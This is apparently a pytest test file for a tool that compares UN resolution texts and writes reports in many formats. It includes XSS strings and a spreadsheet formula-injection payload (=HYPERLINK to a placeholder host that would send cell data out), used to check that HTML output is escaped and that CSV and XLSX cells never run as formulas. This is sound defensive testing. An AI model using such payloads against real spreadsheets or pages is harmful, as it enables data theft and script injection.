"""The report writers: golden files, TMX validity, HTML safety, atomic no-clobber writes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from resalign.align import Document, OutputError, align, parse_text
from resalign.align.comparison import compare
from resalign.align.output import write_output
from resalign.align.render import FORMATS, Format, format_for, render
from resalign.cli import main
from tests.conftest import EN, ES, MODELED
from tests.reports_fixtures import hostile_comparison, small_comparison

GOLDEN = Path(__file__).parent / "golden"
HEADER_KEYS = ["SYMBOL", "SESSION", "AGENDA", "REPORT", "ADOPTED", "TITLE", "OPENING"]
DTD = Path(__file__).parent / "data" / "tmx14.dtd"


@pytest.mark.parametrize("report_format", FORMATS)
def test_golden(report_format: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each writer's output on a small pair, byte for byte (TMX: a pair of languages, with
    a fixed creation date; XLSX: its cells, runs of rich text included, as JSON, since the
    zip holds the time it was written; Word: its parts, indented, one after the other)."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    comparison = small_translation() if report_format == "tmx" else small_comparison()
    produced = render(comparison, report_format)
    readable = {"xlsx": (xlsx_cells, ".json"), "docx": (docx_parts, ".xml")}
    shown, suffix = readable.get(report_format, (lambda data: data, ""))
    produced = shown(produced)
    golden = GOLDEN / f"small.{report_format}{suffix}"
    if os.environ.get("RESALIGN_UPDATE_GOLDEN"):
        golden.write_bytes(produced)
    assert produced == golden.read_bytes()


def small_translation():  # type: ignore[no-untyped-def]
    from resalign.align import parse_text
    from tests.test_read_languages import CORPUS

    es, en = (parse_text(next(c.text for c in CORPUS if c.lang == code)) for code in ("es", "en"))
    return compare(es, en, align(es, en))


def docx_parts(data: bytes) -> bytes:
    """Each part of a Word package, its name and then its XML indented."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return b"".join(
            f"--- {name}\n".encode()
            + etree.tostring(
                etree.fromstring(package.read(name)), pretty_print=True, encoding="UTF-8"
            )
            for name in package.namelist()
        )


def xlsx_cells(data: bytes) -> bytes:
    """Every cell of every sheet, rich text as its runs (text, struck, bold, colour)."""
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(data), rich_text=True)

    def cell(value: object) -> object:
        if hasattr(value, "__iter__") and not isinstance(value, str):
            return [
                [b.text, b.font.strike, b.font.b, b.font.color.rgb] if hasattr(b, "font") else b
                for b in value  # type: ignore[attr-defined]
            ]
        return value

    sheets = {
        sheet.title: [[cell(c.value) for c in row] for row in sheet.iter_rows()] for sheet in book
    }
    return (json.dumps(sheets, ensure_ascii=False, indent=1) + "\n").encode()


def test_csv_rows(es: Document, modeled: Document) -> None:
    comparison = compare(es, modeled, align(es, modeled))
    text = render(comparison, "csv").decode("utf-8")
    assert text.startswith("\ufeffleft_key,right_key,status")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 86  # 7 header facts, 79 beads of paragraphs and footnotes
    assert [r["left_key"] for r in rows[:7]] == HEADER_KEYS
    assert rows[7]["left_key"] == "PP1" and rows[7]["status"] == "same"
    assert next(r for r in rows if r["left_key"] == "OP21")["right_key"] == "OP19"
    split = next(r for r in rows if r["left_key"] == "PP24")
    assert (split["right_key"], split["status"], split["method"]) == ("PP21+PP22", "split", "split")
    moved = next(r for r in rows if r["left_key"] == "PP22")
    assert moved["note"] == "moved: was after PP21, now after PP15"


def test_json_report_has_diffs(es: Document, modeled: Document) -> None:
    data = json.loads(render(compare(es, modeled, align(es, modeled)), "json"))
    assert data["summary"]["statuses"] == {  # the header's 7 rows counted as shown
        "added": 4,
        "changed": 15,
        "merged": 1,
        "moved": 2,
        "removed": 9,
        "same": 54,
        "split": 1,
    }
    assert sum(data["summary"]["statuses"].values()) == len(data["pairs"]) == 86
    op21 = next(p for p in data["pairs"] if p["left"] == "OP21")
    assert [s for s in op21["diff"] if s[0] != 0] == [[-1, "2018"], [1, "2016"]]
    assert op21["words"] == {"added": 1, "removed": 1, "unchanged": 79}


def test_tmx_is_valid_tmx_14b(es: Document, en: Document) -> None:
    comparison = compare(es, en, align(es, en))
    data = render(comparison, "tmx")
    document = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    dtd = etree.DTD(str(DTD))
    assert dtd.validate(document), dtd.error_log.filter_from_errors()
    units = document.findall("body/tu")
    assert len(units) == 78  # the title, the opening, 62 paragraphs and 14 footnotes
    assert [unit.get("tuid") for unit in units[:2]] == ["TITLE", "OPENING"]
    first = units[2]
    assert [(p.get("type"), p.text) for p in first.findall("prop")] == [
        ("x-key-left", "PP1"),
        ("x-key-right", "PP1"),
        ("x-symbol-left", "A/RES/72/195"),
        ("x-symbol-right", "A/RES/72/195"),
    ]
    langs = [tuv.get("{http://www.w3.org/XML/1998/namespace}lang") for tuv in first.findall("tuv")]
    assert langs == ["es-ES", "en-GB"]
    pp4 = next(unit for unit in units if unit.get("tuid") == "PP4")
    placeholders = [(ph.get("x"), ph.get("type"), ph.text) for ph in pp4.iter("ph")]
    assert placeholders == [("1", "fnote", "FN1"), ("1", "fnote", "FN1")]
    assert pp4.find("tuv/seg").text.endswith("la Agenda 2030 para el Desarrollo Sostenible")
    assert first.findtext("tuv/seg").startswith("Reiterando su enérgica condena")
    assert document.find("header").get("srclang") == "es-ES"


def test_tmx_leaves_out_unpaired(es: Document) -> None:
    from resalign.align import parse_text

    text = EN.read_text(encoding="utf-8")
    start = text.index("(f) To foster")
    en = parse_text(text[:start] + text[text.index("\n", start) :])
    document = etree.fromstring(render(compare(es, en, align(es, en)), "tmx"))
    assert "PP8(f)" not in [tu.get("tuid") for tu in document.findall("body/tu")]
    # PP8, whose sub-items now differ in number, is a finding: out of the memory too
    assert "PP8" not in [tu.get("tuid") for tu in document.findall("body/tu")]
    assert len(document.findall("body/tu")) == 76


def test_tmx_refuses_version_mode() -> None:
    """A usage error (exit 2), not an output error: nothing is wrong with the output file."""
    from resalign.align.errors import UsageError

    with pytest.raises(UsageError, match="TMX holds translations"):
        render(small_comparison(), "tmx")


def test_html_escapes_document_text() -> None:
    page = render(hostile_comparison(), "html").decode("utf-8")
    assert "<script" not in page and "<img" not in page and "<b>" not in page
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; “comillas”" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;left&gt;.txt" in page


def test_html_structure(es: Document, modeled: Document) -> None:
    page = render(compare(es, modeled, align(es, modeled)), "html").decode("utf-8")
    tree = etree.fromstring(page.encode(), etree.HTMLParser(no_network=True))
    assert tree.findtext(".//title") == "resalign: A/RES/72/195 (es) ↔ A/RES/70/179 (es)"
    rows = tree.findall(".//table[@class='pairs']/tbody/tr")
    assert len(rows) == 86
    assert [row.get("class") for row in rows[:2]] == ["status-changed", "status-changed"]
    ids = [a.get("id") for a in tree.iter("a") if a.get("id")]
    assert len(ids) == len(set(ids))  # every key stands in one row
    split = tree.find(".//a[@id='R-PP22']/../..")
    assert [a.get("id") for a in split.iter("a")] == ["L-PP24", "R-PP21", "R-PP22"]
    assert "split" in split.findall("td")[-1].text
    moved = tree.find(".//a[@id='L-OP12']/../..")
    assert moved.findall("td")[-1].text.strip() == "moved: was after OP11, now after OP19"
    assert tree.find(".//a[@id='L-OP21']") is not None
    assert tree.find(".//a[@id='R-OP5']") is not None
    assert "http" not in page.replace("http-equiv", "")  # nothing from the network
    assert "@page { size: A4 landscape" in page
    assert "#changes-only:checked ~ table.pairs tr.unchanged { display: none; }" in page
    deleted = rows[[r.get("class") for r in rows].index("status-changed")].findall(".//del")
    assert deleted


def test_html_arabic_side_is_rtl() -> None:
    from resalign.align import parse_text
    from tests.test_read_languages import CORPUS

    arabic = parse_text(next(c.text for c in CORPUS if c.lang == "ar"))
    english = parse_text(next(c.text for c in CORPUS if c.lang == "en"))
    page = render(compare(english, arabic, align(english, arabic)), "html").decode()
    assert '<td lang="ar" dir="rtl">' in page and '<td lang="en" dir="ltr">' in page


def test_xlsx(tmp_path: Path, es: Document, en: Document, modeled: Document) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    from resalign.align.comparison import with_reviewed
    from resalign.align.marks import seal

    compared = compare(es, modeled, align(es, modeled))
    (pp4,) = [v for v in compared.views if v.pair.left == "PP4"]
    comparison = with_reviewed(compared, {("PP4", "PP4"): seal(pp4.left_text, pp4.right_text)})
    path = write_output(tmp_path / "r.xlsx", render(comparison, "xlsx"))
    book = openpyxl.load_workbook(path, rich_text=True)
    assert book.sheetnames == ["Pairs", "Summary"]
    sheet = book["Pairs"]
    assert [c.value for c in sheet[1]] == [
        "Left key",
        "Right key",
        "Status",
        "Method",
        "Score",
        "Words added",
        "Words removed",
        "Left text",
        "Right text",
        "Findings",
        "Reviewed",
        "Comment",
    ]
    assert sheet.max_row == 87
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:L87"
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    op21 = rows["OP21"]
    assert (op21[2].value, op21[5].value, op21[6].value) == (
        "changed; renumbered OP21 → OP19",
        1,
        1,
    )
    left, right = op21[7].value, op21[8].value  # the diff, as rich text
    struck = [(b.text, b.font.strike, b.font.color.rgb) for b in left if hasattr(b, "font")]
    inserted = [(b.text, b.font.b) for b in right if hasattr(b, "font")]
    assert struck == [("2018", True, "00C00000")] and inserted == [("2016", True)]
    assert str(left) == es.paragraph("OP21").text
    assert rows["PP4"][10].value == "✓" and rows["PP5"][10].value is None
    assert rows["OP10\nOP11"][2].value == "merged"
    summary = [[c.value for c in row] for row in book["Summary"].iter_rows()]
    assert ["Symbol", "A/RES/72/195", "A/RES/70/179"] in summary
    assert ["split", 1, None] in summary and ["Reviewed", "1 of 86", None] in summary
    renumbered = "OP5–OP8 → OP6–OP9, OP13–OP21 → OP11–OP19, OP22 → OP21"  # as ranges
    assert ["Renumbered", renumbered, None] in summary


CALC = shutil.which("soffice") and any(Path("/usr/lib/libreoffice/program").glob("libsclo*"))
"""LibreOffice with its spreadsheet (libreoffice-calc-nogui), which `.ci/run` installs."""


@pytest.mark.skipif(not CALC, reason="LibreOffice Calc is not installed")
def test_xlsx_opens_in_libreoffice(tmp_path: Path, es: Document, modeled: Document) -> None:
    """LibreOffice (headless) opens the workbook and prints it to PDF with every paragraph
    whole: its rows are as tall as their wrapped text (each paragraph's last word is on the
    page; with rows one line high, 55 were not)."""
    pytest.importorskip("openpyxl")
    comparison = compare(es, modeled, align(es, modeled))
    path = write_output(tmp_path / "r.xlsx", render(comparison, "xlsx"))
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
        capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    pdf = tmp_path / "r.pdf"
    assert done.returncode == 0 and pdf.exists(), done.stderr
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    assert "Reiterando su enérgica condena" in text and "Left key" in text
    printed = set(re.findall(r"[^\W\d_]+", text))
    last_words = [
        (view.pair.keys, re.findall(r"[^\W\d_]+", side)[-1])
        for view in comparison.views
        for side in (view.left_text, view.right_text)
        if side and re.search(r"[^\W\d_]", side)
    ]
    assert len(last_words) > 150
    assert [(keys, word) for keys, word in last_words if word not in printed] == []


@pytest.mark.parametrize("row", FORMATS.values(), ids=FORMATS)
def test_each_format_by_its_extensions(row: Format) -> None:
    for extension in row.extensions:
        assert format_for(f"r{extension}") == row.name
        assert format_for(f"R{extension.upper()}") == row.name
    assert callable(row.writer())


def test_no_format_for_other_names() -> None:
    assert format_for("r.pdf") is None
    assert format_for("report") is None


def test_write_refuses_to_overwrite(tmp_path: Path) -> None:
    target = tmp_path / "report.html"
    target.write_text("the user's own file")
    with pytest.raises(OutputError, match="exists; use --force"):
        write_output(target, b"new")
    assert target.read_text() == "the user's own file"
    write_output(target, b"new", force=True)
    assert target.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]  # no temporary left


def test_write_errors_are_one_line(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="is a directory"):
        write_output(tmp_path, b"x")
    with pytest.raises(OutputError, match="cannot write"):
        write_output(tmp_path / "missing" / "r.html", b"x")


def test_cli_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "report.md"
    assert main(["report", str(ES), str(MODELED), "-o", str(out)]) == 0
    assert out.read_text(encoding="utf-8").startswith("# A/RES/72/195 (es) ↔ A/RES/70/179 (es)")
    assert main(["report", str(ES), str(MODELED), "-o", str(out)]) == 3
    assert "exists; use --force" in capsys.readouterr().err
    assert main(["report", str(ES), str(MODELED), "-o", str(tmp_path / "r.bin")]) == 2
    assert "cannot tell the report format" in capsys.readouterr().err
    assert (
        main(["report", str(ES), str(MODELED), "-o", str(tmp_path / "r.x"), "--format", "csv"]) == 0
    )
    assert main(["report", str(ES), str(MODELED), "-o", str(tmp_path / "r.tmx")]) == 2
    assert "TMX holds translations" in capsys.readouterr().err
    assert not (tmp_path / "r.tmx").exists()


def test_cli_diff(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["diff", str(ES), str(MODELED), "--color", "never"]) == 0
    out = capsys.readouterr().out
    assert "OP21 → OP19  changed" in out
    assert "en [-2018-]{+2016+}, de conformidad" in out
    assert "PP1 → PP1" not in out
    assert "\x1b[" not in out
    assert main(["diff", str(ES), str(MODELED), "--color", "always", "--all"]) == 0
    colored = capsys.readouterr().out
    assert "PP1 → PP1" in colored and "\x1b[31;9m2018\x1b[0m\x1b[32m2016\x1b[0m" in colored


def test_cli_diff_language_side_by_side(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["diff", str(ES), str(EN), "--color", "never", "--all"]) == 0
    out = capsys.readouterr().out
    assert "PP1 → PP1  paired" in out
    assert " │ Reiterating its strong condemnation" in out
    assert main(["diff", str(ES), str(EN), "--color", "never"]) == 0
    assert capsys.readouterr().out.rstrip().endswith("no findings")


INJECTION = """72/12. Prueba

La Asamblea General,

=HYPERLINK("http://example.invalid/?"&A1,"pulse aquí"),

1. *Decide* actuar.
"""


def injected_comparison():  # type: ignore[no-untyped-def]
    from resalign.align import parse_text

    left = parse_text(INJECTION, source="l.txt")
    right = parse_text(INJECTION.replace("actuar", "actuar ya"), source="r.txt")
    return compare(left, right, align(left, right))


def test_csv_cells_never_run_as_formulas() -> None:
    text = render(injected_comparison(), "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    (pp1,) = [row for row in rows if row["left_key"] == "PP1"]
    assert pp1["left_text"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"pulse aquí"),'
    assert not any(value.startswith("=") for row in rows for value in row.values())


def test_xlsx_cells_never_run_as_formulas() -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(render(injected_comparison(), "xlsx")))
    cells = [cell for row in book["Pairs"].iter_rows() for cell in row]
    hyperlink = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
    assert len(hyperlink) == 2  # left and right text of PP1, kept as written
    assert {cell.data_type for cell in hyperlink} == {"s"}


def test_xlsx_parts_are_well_formed_and_hold_markup_as_text() -> None:
    """The writer assembles its sheets as text: markup in a paragraph stays characters,
    a character XML cannot hold is left out, and every part parses."""
    import zipfile

    from lxml import etree
    from openpyxl import load_workbook

    from resalign.align import parse_text

    hostile = INJECTION.replace("pulse aquí", "pulse <b>&amp;</b> ]]> aquí")
    left = parse_text(hostile, source="l.txt")
    right = parse_text(hostile.replace("actuar", "actuar ya"), source="r.txt")
    data = render(compare(left, right, align(left, right)), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parser = etree.XMLParser(resolve_entities=False, no_network=True)
        for name in package.namelist():
            etree.fromstring(package.read(name), parser)
    texts = [c.value for row in load_workbook(io.BytesIO(data))["Pairs"].iter_rows() for c in row]
    assert (
        texts.count('=HYPERLINK("http://example.invalid/?"&A1,"pulse <b>&amp;</b> ]]> aquí"),') == 2
    )
    from resalign.align.render.xlsx import _escaped

    assert _escaped("a\x07b<c>&\ufffe") == "ab&lt;c&gt;&amp;"


def test_report_to_standard_output(
    capsysbinary: pytest.CaptureFixture[bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code = main(["report", str(MODELED), str(ES), "-o", "-", "--format", "html"])
    out, err = capsysbinary.readouterr()
    assert (code, err) == (0, b"")
    assert out.startswith(b"<!DOCTYPE html>")
    assert list(tmp_path.iterdir()) == []  # no file named '-'


def test_a_format_the_file_name_contradicts_is_said(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.html"
    code = main(["report", str(MODELED), str(ES), "-o", str(target), "--format", "md"])
    err = capsys.readouterr().err
    assert code == 0
    said = f"writing md into {target}, whose name says html"
    assert err.splitlines()[0] == f"resalign: warning: {said}"


def test_leftovers_of_a_killed_write_are_cleaned(tmp_path: Path) -> None:
    """A write killed halfway leaves its hidden temporary file, which the next write to
    that name removes at once (no live write holds its lock); another write still going
    on keeps its own."""
    import fcntl
    import signal
    import sys
    import time

    target = tmp_path / "report.html"
    killed = subprocess.Popen(
        [sys.executable, "-c",
         "import sys, time\n"
         "from resalign.align.output import open_output\n"
         "with open_output(sys.argv[1]) as out:\n"
         "    out.write(b'half a report'); out.flush(); print('writing', flush=True)\n"
         "    time.sleep(60)\n",
         str(target)],
        stdout=subprocess.PIPE,
    )  # fmt: skip
    assert killed.stdout is not None and killed.stdout.readline() == b"writing\n"
    killed.send_signal(signal.SIGKILL)
    killed.wait()
    (leftover,) = tmp_path.glob(".report.html.*.tmp")
    live = tmp_path / ".report.html.def456.tmp"  # another write, still going on
    live.write_bytes(b"half a report")
    with live.open("rb") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX)
        started = time.monotonic()
        write_output(target, b"report")
        assert time.monotonic() - started < 1
        assert sorted(p.name for p in tmp_path.iterdir()) == [live.name, "report.html"]
    assert not leftover.exists()


def test_writes_at_once_to_one_name_never_take_each_other_for_leftovers(tmp_path: Path) -> None:
    """Eight writers replacing one file 50 times each (two fetches of one document into the
    cache do so): every write lands whole, none removes another's temporary file as the
    leftover of a killed write, and none is left behind."""
    import threading

    target = tmp_path / "same.pdf"
    failures: list[str] = []

    def write(byte: int) -> None:
        for _ in range(50):
            try:
                write_output(target, bytes([byte]) * 5000, force=True)
            except OutputError as error:
                failures.append(str(error))

    writers = [threading.Thread(target=write, args=(byte,)) for byte in range(8)]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join()
    assert failures == []
    assert [p.name for p in tmp_path.iterdir()] == ["same.pdf"]
    data = target.read_bytes()
    assert len(data) == 5000 and len(set(data)) == 1


def test_csv_for_excel_in_spanish_french_or_russian(tmp_path: Path) -> None:
    """`--csv-dialect excel-eu`: semicolons between cells and decimal commas, so Excel set
    to a European locale opens the report in columns and reads the scores as numbers."""
    out = tmp_path / "eu.csv"
    argv = ["report", str(MODELED), str(ES), "-o", str(out), "--csv-dialect", "excel-eu"]
    assert main(argv) == 0
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:4] == ["left_key", "right_key", "status", "score"]
    assert (rows[1][0], rows[1][3]) == ("SYMBOL", "1,000")
    assert (rows[8][0], rows[8][3]) == ("PP1", "1,000")
    assert all(len(row) == len(rows[0]) for row in rows)


def _edited_pair():  # type: ignore[no-untyped-def]
    from resalign.align import parse_text

    left = parse_text(
        INJECTION.replace("=HYPERLINK", "Recordando la resolución de 2015"), source="l"
    )
    right = parse_text(
        INJECTION.replace("=HYPERLINK", "Recordando la resolución de 2017, entre otras cosas,"),
        source="r",
    )
    return render(compare(left, right, align(left, right)), "md").decode()


def test_markdown_edits_render_in_safe_commonmark() -> None:
    """Rendered by a CommonMark renderer that drops raw HTML (as wikis do), each edit
    stays, even where it begins or ends with punctuation or a deletion meets an insertion;
    no GitHub table or strike-through is needed."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": False}).render(_edited_pair())
    assert "[-2015-]{+2017, entre otras cosas,+}" in html
    assert "<table" not in html and "&lt;" not in html and "~~" not in html


@pytest.mark.skipif(shutil.which("cmark") is None, reason="needs cmark (apt-get install cmark)")
def test_markdown_edits_render_in_cmark_safe_mode() -> None:
    html = subprocess.run(
        ["cmark", "--safe"], input=_edited_pair(), capture_output=True, text=True, check=True
    ).stdout
    assert "[-2015-]{+2017, entre otras cosas,+}" in html
    assert "raw HTML omitted" not in html


def test_tmx_keeps_findings_out_of_the_memory_and_reads_in_translate_toolkit(
    es: Document, en: Document, monkeypatch: pytest.MonkeyPatch
) -> None:
    from translate.storage.tmx import tmxfile

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    text = EN.read_text(encoding="utf-8").replace(
        "64/293 of 30 July 2010", "64/293 of 30 July 2011"
    )
    changed = parse_text(text, source="en.txt")
    data = render(compare(es, changed, align(es, changed)), "tmx", locales="en=en-US")
    document = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    assert etree.DTD(str(DTD)).validate(document)
    assert document.find("header").get("creationdate") == "20231114T221320Z"
    # PP7's date differs: kept out of the memory (no CAT tool would offer it as less than
    # 100 %), and named in the header with its finding
    assert "PP7" not in [unit.get("tuid") for unit in document.iter("tu")]
    (note,) = [note.text for note in document.iterfind("header/note")]
    assert note.startswith("left out of the memory, to be checked: PP7 → PP7: date: PP7 (es)")
    store = tmxfile(data)
    assert len(store.units) == len(document.findall("body/tu"))
    assert str(store.units[0].source) == es.title
    assert str(store.units[2].source).startswith("Reiterando su enérgica condena")


def test_every_report_shows_a_split_and_a_merge_once(
    tmp_path: Path, es: Document, modeled: Document
) -> None:
    """The seed pair's split (PP24 → PP21+PP22) and merge (OP10+OP11 → OP10): one labelled
    entry each in every report, no key shown twice, and a move says where from and to."""
    from resalign.align.render.terminal import terminal_diff

    comparison = compare(es, modeled, align(es, modeled))
    markdown = render(comparison, "md").decode()
    assert markdown.count("### PP24 → PP21+PP22 · split") == 1
    assert markdown.count("### OP10+OP11 → OP10 · merged") == 1
    assert "PP24 → PP21 " not in markdown and "### OP11 → " not in markdown
    assert "### PP22 → PP16 · moved: was after PP21, now after PP15 · 1.00" in markdown
    data = json.loads(render(comparison, "json"))
    split = [p for p in data["pairs"] if "PP21" in p["right_keys"]]
    assert [(p["left_keys"], p["right_keys"], p["status"]) for p in split] == [
        (["PP24"], ["PP21", "PP22"], "split")
    ]
    terminal = terminal_diff(comparison, color=False)
    assert terminal.count("PP24 → PP21+PP22  split") == 1
    assert "OP12 → OP20  moved: was after OP11, now after OP19  1.00" in terminal
    openpyxl = pytest.importorskip("openpyxl")
    path = write_output(tmp_path / "r.xlsx", render(comparison, "xlsx"))
    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert [row[:3] for row in rows if row[0] == "OP10\nOP11"] == [("OP10\nOP11", "OP10", "merged")]
    assert sum(1 for row in rows if row[1] and "OP10" in row[1].split("\n")) == 1


def test_html_marks_qa_values_and_footnote_calls_in_place(es: Document) -> None:
    from resalign.align import parse_text

    en = parse_text(EN.read_text(encoding="utf-8").replace("30 July 2010", "30 July 2011"))
    page = render(compare(es, en, align(es, en)), "html").decode()
    assert "<mark>30 de julio de 2010</mark>" in page and "<mark>30 July 2011</mark>" in page
    assert 'Desarrollo Sostenible<sup class="call">1</sup>, en la que' in page
    assert 'Sustainable Development,<sup class="call">1</sup> which' in page


def test_write_goes_through_links_and_into_devices_and_pipes(tmp_path: Path) -> None:
    """`-o LINK --force` writes where the link points and leaves the link; `-o /dev/null`
    and `-o FIFO` write into them: none is ever replaced by a file (as root, `--force`
    renamed a report over the system's /dev/null)."""
    import os
    import stat
    import threading

    target = tmp_path / "real.html"
    target.write_text("the user's own file")
    link = tmp_path / "link.html"
    link.symlink_to(target)
    write_output(link, b"new", force=True)
    assert link.is_symlink() and target.read_bytes() == b"new"
    write_output("/dev/null", b"discarded", force=True)
    assert stat.S_ISCHR(Path("/dev/null").stat().st_mode)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    write_output(fifo, b"through the pipe")
    reader.join(timeout=10)
    assert received == [b"through the pipe"] and stat.S_ISFIFO(fifo.stat().st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.html", "pipe", "real.html"]


@pytest.mark.skipif(shutil.which("cmark") is None, reason="needs cmark (apt-get install cmark)")
def test_every_change_of_a_real_pair_survives_cmark_safe_mode() -> None:
    """78/228 → 80/228 rendered by `cmark --safe` (raw HTML dropped, as wikis drop it):
    every deleted and inserted passage of every pair is there, marked."""
    import html as html_text

    from tests.test_real_documents import pdf

    left, right = pdf("A_RES_78_228"), pdf("A_RES_80_228")
    comparison = compare(left, right, align(left, right))
    rendered = subprocess.run(
        ["cmark", "--safe"], input=render(comparison, "md").decode(), capture_output=True,
        text=True, check=True,
    ).stdout  # fmt: skip
    shown = " ".join(html_text.unescape(re.sub(r"<[^>]+>", "", rendered)).split())
    edits = [
        f"[-{' '.join(s.text.split())}-]" if s.op == -1 else f"{{+{' '.join(s.text.split())}+}}"
        for view in comparison.views
        for s in view.spans or ()
        if s.op and s.text.strip()
    ]
    assert len(edits) > 150
    assert [edit for edit in edits if edit not in shown] == []


def test_a_text_longer_than_an_excel_cell_is_refused_not_cut(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Excel cuts a cell at 32,767 characters when it opens the file: the workbook would
    lose a paragraph's end without a word. One line, exit 2, and no file."""
    opening = "The General Assembly,\n\n"
    long = "1. Decides " + "que " * 9000 + "fin;\n"  # OP1: 36,012 characters
    (tmp_path / "old.txt").write_text(opening + long, encoding="utf-8")
    (tmp_path / "new.txt").write_text(opening + long.replace("fin", "final"), encoding="utf-8")
    out = tmp_path / "r.xlsx"
    code = main(["report", str(tmp_path / "old.txt"), str(tmp_path / "new.txt"), "-o", str(out)])
    assert (code, out.exists()) == (2, False)
    assert capsys.readouterr().err == (
        "resalign: OP1 has 36,012 characters, more than an Excel cell holds (32,767): "
        "write html, md, json, csv or docx instead\n"
    )
